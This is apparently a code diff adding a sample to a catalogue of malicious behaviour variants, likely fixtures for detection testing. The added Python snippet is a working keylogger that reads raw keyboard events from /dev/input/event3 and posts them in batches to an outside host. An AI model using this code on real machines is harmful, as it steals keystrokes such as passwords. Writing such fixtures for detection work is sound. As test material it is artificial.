@@ -359,6 +359,23 @@ end
 const KEYLOGGER_CLIPBOARD: BehaviourVariant[] = [
   () => ({
     families: CMD,
+    note: 'Python: a keyboard read from /dev/input/event3 and its events posted in batches',
+    files: [
+      {
+        path: 'run.py',
+        content: `import struct, requests
+buf = b""
+with open("/dev/input/event3", "rb") as f:
+    while True:
+        buf += f.read(24)
+        if len(buf) > 2400:
+            requests.post("https://stats-cdn.dev/i", data=buf); buf = b""
+`,
+      },
+    ],
+  }),
+  () => ({
+    families: CMD,
     note: 'PowerShell: [Clipboard]::GetText polled and an Ethereum address put back with SetText',
     files: [
       {
